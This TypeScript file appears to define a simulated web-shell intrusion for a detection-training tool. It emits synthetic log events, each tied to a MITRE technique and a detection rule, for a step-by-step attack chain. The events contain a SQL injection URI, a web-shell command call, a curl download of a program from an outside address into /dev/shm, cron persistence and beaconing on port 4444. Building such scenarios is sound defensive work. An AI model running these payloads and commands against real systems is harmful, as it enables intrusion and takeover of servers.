import type { Intrusion } from './intrusion.ts';
import { office } from './office.ts';
import { auditRecord, execveArguments, execveCall, webRequest, zeekEvent } from './other-events.ts';
import { starterRules } from './starter-rule-ids.ts';

const { webServer } = office;
const attacker = '198.51.100.77';
const server = '203.0.113.90';
const wwwData = '33';
const sqlmap = 'sqlmap/1.8.4#stable (https://sqlmap.org)';
const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';

/** A hole in the shop becomes a beacon on the web server. */
export const webShellIntrusion: Intrusion = {
  title: 'Web shell on the shop to a beacon',
  startsBefore: 2400,
  steps: [
    {
      title: `${attacker} scanned the shop with sqlmap`,
      technique: 'T1595.002',
      after: 0,
      rule: starterRules.webScanner,
      about: attacker,
      events: (random, time) =>
        ['/', '/admin/', '/products?id=1', '/login', '/backup.zip'].map((uri, index) =>
          webRequest(webServer, time + index * 700, {
            from: attacker,
            uri: `${uri}${uri.includes('?') ? '&' : '?'}r=${random.int(1, 9999)}`,
            status: index === 0 ? 200 : 404,
            agent: sqlmap,
          }),
        ),
    },
    {
      title: 'SQL injection in the product page read the tables',
      technique: 'T1190',
      after: 60,
      rule: starterRules.sqlInjection,
      about: attacker,
      events: (_, time) => [
        webRequest(webServer, time, {
          from: attacker,
          uri: '/products?id=12%20UNION%20SELECT%20null,table_name%20FROM%20information_schema.tables--',
          agent: browser,
          bytes: 48_211,
        }),
      ],
    },
    {
      title: 'A script uploaded as a picture was called with a command',
      technique: 'T1505.003',
      after: 210,
      rule: starterRules.webShellRequest,
      about: attacker,
      events: (_, time) => [
        webRequest(webServer, time, {
          from: attacker,
          uri: '/uploads/avatar-91.php?cmd=id;uname%20-a',
          agent: browser,
        }),
      ],
    },
    {
      title: 'The web server account started a shell',
      technique: 'T1059.004',
      after: 211,
      rule: starterRules.webServerShell,
      about: webServer.name,
      events: (_, time) => [
        execveCall(webServer, time, 40_001, { exe: '/usr/bin/dash', uid: wwwData, pid: 4410, ppid: 911 }),
        execveArguments(webServer, time, 40_001, ['sh', '-c', 'id;uname -a']),
      ],
    },
    {
      title: 'Curl fetched a program into /dev/shm',
      technique: 'T1105',
      after: 260,
      rule: starterRules.temporaryDownload,
      about: webServer.name,
      events: (_, time) => [
        execveCall(webServer, time, 40_010, { exe: '/usr/bin/curl', uid: wwwData, pid: 4431, ppid: 4410 }),
        execveArguments(webServer, time, 40_010, [
          'curl',
          '-s',
          '-o',
          '/dev/shm/.x',
          `http://${server}/x.elf`,
        ]),
      ],
    },
    {
      title: 'The sensor saw the program come from a bare address',
      technique: 'T1105',
      after: 261,
      rule: starterRules.executableFromAddress,
      about: webServer.address,
      events: (random, time) => [
        zeekEvent(
          random,
          time,
          'http',
          { from: webServer.address, to: server, port: 80 },
          {
            method: 'GET',
            host: server,
            uri: '/x.elf',
            version: '1.1',
            user_agent: 'curl/7.88.1',
            status_code: 200,
            response_body_len: 148_224,
            resp_mime_types: ['application/x-executable'],
          },
        ),
      ],
    },
    {
      title: 'The program was started',
      technique: 'T1059.004',
      after: 266,
      rule: starterRules.temporaryExecution,
      about: webServer.name,
      events: (_, time) => [
        execveCall(webServer, time, 40_022, { exe: '/dev/shm/.x', uid: wwwData, pid: 4440, ppid: 4410 }),
      ],
    },
    {
      title: 'A cron job was placed to start it again',
      technique: 'T1053.003',
      after: 400,
      rule: starterRules.cronPersistence,
      about: webServer.name,
      events: (_, time) => [
        auditRecord(webServer, time, 40_090, 'PATH', {
          item: '1',
          name: '/etc/cron.d/sysstat-update',
          inode: '131842',
          nametype: 'CREATE',
          mode: '0100644',
          ouid: '0',
          ogid: '0',
        }),
      ],
    },
    {
      title: 'It talked TLS with its server, whose certificate is self-signed',
      technique: 'T1573.002',
      after: 410,
      rule: starterRules.selfSignedTls,
      about: webServer.address,
      events: (random, time) =>
        Array.from({ length: 8 }, (_, beat) =>
          zeekEvent(
            random,
            time + beat * 60_000 + random.int(0, 4000),
            'ssl',
            { from: webServer.address, to: server, port: 8443 },
            {
              version: 'TLSv12',
              cipher: 'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384',
              resumed: false,
              established: true,
              subject: 'CN=localhost',
              issuer: 'CN=localhost',
              validation_status: 'self signed certificate',
            },
          ),
        ),
    },
    {
      title: 'An interactive session went to port 4444',
      technique: 'T1571',
      after: 900,
      rule: starterRules.handlerPort,
      about: webServer.address,
      events: (random, time) => [
        zeekEvent(
          random,
          time,
          'conn',
          { from: webServer.address, to: server, port: 4444 },
          {
            proto: 'tcp',
            duration: 412.5,
            orig_bytes: 18_220,
            resp_bytes: 9120,
            conn_state: 'SF',
            local_orig: true,
            local_resp: false,
            history: 'ShADadFf',
          },
        ),
      ],
    },
  ],
};
